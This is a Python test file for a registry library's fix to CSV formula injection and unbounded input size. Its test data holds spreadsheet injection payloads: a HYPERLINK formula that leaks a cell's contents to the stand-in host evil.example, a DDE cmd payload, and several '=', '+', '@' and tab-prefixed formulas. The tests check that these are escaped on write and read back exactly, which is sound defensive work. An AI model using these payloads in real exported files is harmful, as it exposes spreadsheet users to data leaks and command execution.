"""Issue 33, weak points of the registry input and output: registry text starting with ``=``, ``+``, ``-``, ``@``
(tab, CR) went out verbatim in the CSV the project writes (formula injection in a spreadsheet); a 1M-row registry
took 4.6 GB with no row cap. Cells are written spreadsheet-safe and read back exactly; a source over
``RAG_REGISTRY_MAX_ROWS`` rows or ``RAG_REGISTRY_MAX_BYTES`` bytes is refused with an error naming the limit,
before its rows are held."""

from __future__ import annotations

import csv
import json
import tracemalloc

import pytest
from support.registry import NOW, good_row, write_csv, write_json

from livemem import registry
from livemem.registry import RegistryConfig, verify
from livemem.registry.fields import FORMULA_STARTS, csv_cell, csv_text
from livemem.registry.hsds import write_registry_file
from livemem.registry.load import RegistryError, load_csv
from livemem.settings import RegistrySettings

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "eligibility": "-2+3",
    "hours": "@SUM(1,2)",
    "address": "\t=1+1",
    "verified_by": "\r=1+1",
    "contact_phone": "+13045550101",  # E.164: data, but a spreadsheet reads it as a formula or a number
}


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_exactly(tmp_path):
    rows = [good_row(0, **HOSTILE), good_row(1, name="'=already quoted", description="'plain quote"), good_row(2)]
    path = write_registry_file(rows, tmp_path / "registry.csv")

    with open(path, encoding="utf-8", newline="") as fh:
        written = list(csv.DictReader(fh))
    for field, value in HOSTILE.items():
        assert written[0][field] == "'" + value, field  # what a spreadsheet shows as text
    assert not any(cell[:1] in FORMULA_STARTS for row in written for cell in row.values())
    assert written[1]["name"] == "''=already quoted" and written[1]["description"] == "'plain quote"
    assert written[2]["name"] == "Community Program 2"  # ordinary text untouched

    loaded = load_csv(path).frame.to_dict("records")  # the registry reads its own file back exactly
    for field, value in HOSTILE.items():
        assert loaded[0][field] == value, field
    assert loaded[1]["name"] == "'=already quoted" and loaded[1]["description"] == "'plain quote"

    config = RegistryConfig(kind="csv", path=path)
    published = verify(registry.load_rows(config), config, NOW).published
    assert published.set_index("local_resource_id").loc["res-00000", "contact_phone"] == "+13045550101"


@pytest.mark.parametrize("value", ["", "'", "''", "=", "'=", "''=x", "a=b", "-", "+1 304", "\t", "'\r", "@", "x"])
def test_a_cell_reads_back_as_the_value_written(value):
    assert csv_text(csv_cell(value)) == value
    assert csv_cell(value)[:1] not in FORMULA_STARTS


def test_a_registry_over_the_row_cap_is_refused_naming_the_limit(tmp_path):
    cap = RegistrySettings.defaults().max_rows
    assert cap == 100_000
    path = tmp_path / "big.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:  # one row past the default cap, a few MB
        writer = csv.writer(fh)
        writer.writerow(["local_resource_id", "name"])
        writer.writerows([f"r{i}", "x"] for i in range(cap + 1))
    config = RegistryConfig(kind="csv", path=path)
    tracemalloc.start()
    try:
        with pytest.raises(RegistryError) as refused:
            registry.load_rows(config)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "more than 100,000 rows" in str(refused.value) and "RAG_REGISTRY_MAX_ROWS" in str(refused.value)
    assert peak < 200 * 2**20  # refused while reading: never the rows of a whole registry in memory

    five = RegistrySettings.from_mapping({"RAG_REGISTRY_MAX_ROWS": "5"})  # the variable sets it, JSON files too
    rows = [good_row(i) for i in range(6)]
    for source in (write_csv(tmp_path / "six.csv", rows), write_json(tmp_path / "six.json", rows)):
        kind = source.suffix[1:]
        with pytest.raises(RegistryError, match=r"more than 5 rows, the limit \(RAG_REGISTRY_MAX_ROWS\)"):
            registry.load_rows(RegistryConfig(kind=kind, path=source), five)
        assert len(registry.load_rows(RegistryConfig(kind=kind, path=source), RegistrySettings(max_rows=6))) == 6


def test_a_registry_file_over_the_byte_cap_is_refused_before_it_is_read(tmp_path, monkeypatch):
    path = write_json(tmp_path / "rows.json", [good_row(i) for i in range(20)])
    size = path.stat().st_size
    limits = RegistrySettings.from_mapping({"RAG_REGISTRY_MAX_BYTES": str(size - 1)})

    def never(*args, **kwargs):
        raise AssertionError("the file was read")

    monkeypatch.setattr(json, "loads", never)
    with pytest.raises(RegistryError) as refused:
        registry.load_rows(RegistryConfig(kind="json", path=path), limits)
    message = str(refused.value)
    assert f"is {size:,} bytes, over the limit of {size - 1:,} (RAG_REGISTRY_MAX_BYTES)" in message
    monkeypatch.undo()
    assert len(registry.load_rows(RegistryConfig(kind="json", path=path))) == 20  # under the default


def test_the_limits_refuse_nonsense_values(monkeypatch):
    from livemem.errors import ConfigError

    monkeypatch.setenv("RAG_REGISTRY_MAX_ROWS", "0")
    with pytest.raises(ConfigError, match="RAG_REGISTRY_MAX_ROWS"):
        RegistrySettings.from_env()
